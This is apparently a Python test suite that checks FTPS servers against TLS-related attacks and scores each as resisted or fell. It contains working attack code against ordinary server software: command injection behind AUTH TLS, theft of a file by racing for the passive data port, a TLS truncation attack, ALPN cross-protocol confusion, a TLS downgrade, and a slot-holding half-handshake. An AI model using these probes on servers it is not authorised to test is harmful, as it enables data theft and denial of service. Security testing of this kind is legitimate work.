"""Attacks on what TLS is to protect: what is said before it, who is at the other end of a data connection,
and where an upload ends.
"""

import contextlib
import re
import socket
import ssl
import time

from session import Session, read_all, trusting

OK = "resisted"
TEXT = b"what only a member may see\r\n" * 10


def fell(why):
    return f"fell: {why}"


def private(server, source=None):
    client = Session(server, source, timeout=20).secure().log_in()
    client.ask("TYPE I")
    return client


def stored(server):
    """A file that is there to be stolen."""
    with contextlib.closing(private(server)) as client:
        client.give("STOR secret", TEXT)


def injection(server):
    """CVE-2011-1575: commands in the clear, in the segment of AUTH."""
    client = Session(server, timeout=5)
    client.send(f"AUTH TLS\r\nUSER {server.user}\r\nPASS {server.password}\r\nDELE x\r\n".encode())
    said = client.reply()
    try:
        if said.code != 234:
            return OK
        if re.search(rb"(?m)^(331|230|530|250|550) ", client.buffer):
            return fell("answers in the clear what came behind AUTH")
        client.shake_hands()
        client.socket.settimeout(3)
        said = client.socket.recv(1000)
        return fell("carries out under TLS what came in the clear") if said else OK
    except (OSError, EOFError):
        return OK
    finally:
        client.close()


def stolen(server, source):
    """Who gets there first, with TLS of its own and no session to resume: does the file come?"""
    stored(server)
    client = private(server)
    port = client.passive()
    thief = socket.create_connection((server.host, port), 10, (source, 0))
    client.send(b"RETR secret\r\n")
    try:
        thief.settimeout(5)
        thief = trusting().wrap_socket(thief)
        if TEXT[:20] in read_all(thief):
            return fell("gives the file to whoever connects first")
    except OSError:
        pass
    finally:
        thief.close()
        client.close()
    return OK


def stranger(server):
    return stolen(server, server.stranger)


def neighbour(server):
    """The same address is no proof: others are behind the same router."""
    return stolen(server, server.source)


def in_the_clear(server):
    """PROT P, and a data connection that speaks no TLS."""
    stored(server)
    client = private(server)
    with contextlib.closing(client), contextlib.closing(client.data()) as data:
        client.send(b"RETR secret\r\n")
        data.settimeout(4)
        came = b""
        with contextlib.suppress(OSError):
            came = read_all(data)
    return fell("sends in the clear") if TEXT[:20] in came else OK


def cut_short(server):
    """An upload that ends without close_notify: whoever is on the way can end it."""
    client = private(server)
    data = client.data()
    said = client.ask("STOR cut")
    if said.code < 200:
        data = client.protect(data)
        data.sendall(TEXT)
        time.sleep(0.3)
        # The end of TCP, not of TLS.
        socket.socket.shutdown(data, socket.SHUT_WR)
        try:
            client.socket.settimeout(10)
            said = client.reply()
        except TimeoutError:
            # Waits for more, and is told that there is none.
            data.close()
            said = client.reply()
        data.close()
    client.close()
    return fell("confirms an upload that was cut short") if said.code in (226, 250) else OK


def other_protocol(server):
    """CVE-2021-3618: a browser that was led here says by ALPN that it wants HTTP."""
    client = Session(server, timeout=8)
    if client.ask("AUTH TLS").code != 234:
        return OK
    context = trusting()
    context.set_alpn_protocols(["http/1.1"])
    try:
        with contextlib.closing(context.wrap_socket(client.socket)):
            return fell("shakes hands with HTTP (ALPN)")
    except OSError:
        return OK


def browser(server):
    """The request of such a browser, with commands in its body."""
    client = Session(server, timeout=8).secure(private=False)
    body = f"USER {server.user}\r\nPASS {server.password}\r\nNOOP\r\n"
    client.send(f"POST / HTTP/1.1\r\nHost: x\r\n\r\n{body}".encode())
    client.socket.settimeout(4)
    said = b""
    with contextlib.suppress(OSError):
        while block := client.socket.recv(65536):
            said += block
    client.close()
    return fell("commands in an HTTP request are carried out") if b"230" in said else OK


def old_versions(server):
    for version in (ssl.TLSVersion.TLSv1, ssl.TLSVersion.TLSv1_1):
        client = Session(server, timeout=8)
        if client.ask("AUTH TLS").code != 234:
            return OK
        context = trusting()
        context.set_ciphers("ALL:@SECLEVEL=0")
        context.minimum_version = context.maximum_version = version
        try:
            with contextlib.closing(context.wrap_socket(client.socket)):
                return fell(f"speaks {version.name}")
        except OSError:
            client.close()
    return OK


def half_a_handshake(server):
    """A place that is held by who says AUTH TLS and then nothing, or the beginning of a hello."""
    patience = 100 if server.name == "pure-ftpd" else 40
    begun = time.time()
    for hello in (b"", b"\x16\x03\x01\x02\x00\x01"):
        client = Session(server, timeout=patience)
        client.ask("AUTH TLS")
        client.send(hello)
        try:
            while client.socket.recv(100):
                pass
        except TimeoutError:
            return fell(f"stays for {time.time() - begun:.0f} s and more")
        except OSError:
            pass
        client.close()
    return OK


def required(server):
    """Where TLS is demanded: no login without it, and no data after PROT C."""
    if not server.strict:
        return "not applicable"
    strict = server.strict
    client = Session(strict, timeout=10)
    said = client.ask(f"USER {strict.user}")
    if said.code == 331:
        said = client.ask(f"PASS {strict.password}")
    client.close()
    if said.code == 230:
        return fell("a login without TLS")
    client = private(strict)
    with contextlib.closing(client):
        client.give("STOR secret", TEXT)
        if client.ask("PROT C").code < 300:
            client.private = False
            # Where PASV is refused already, that is all right.
            with contextlib.suppress(EOFError):
                if TEXT[:20] in client.fetch("RETR secret")[2]:
                    return fell("data in the clear after PROT C")
    return OK


ATTACKS = [
    ("TLS: commands in the clear behind AUTH, in one segment", injection, False),
    ("TLS: a stranger with TLS of its own at the passive port", stranger, False),
    ("TLS: the same from the client's address, without its session", neighbour, False),
    ("TLS: a data connection without TLS after PROT P", in_the_clear, False),
    ("TLS: an upload cut short, without close_notify", cut_short, False),
    ("TLS: ALPN of another protocol", other_protocol, False),
    ("TLS: FTP commands in an HTTP POST", browser, False),
    ("TLS: 1.0 and 1.1", old_versions, False),
    ("TLS: half a handshake that keeps a place", half_a_handshake, False),
    ("TLS demanded: a login without it, data after PROT C", required, False),
]
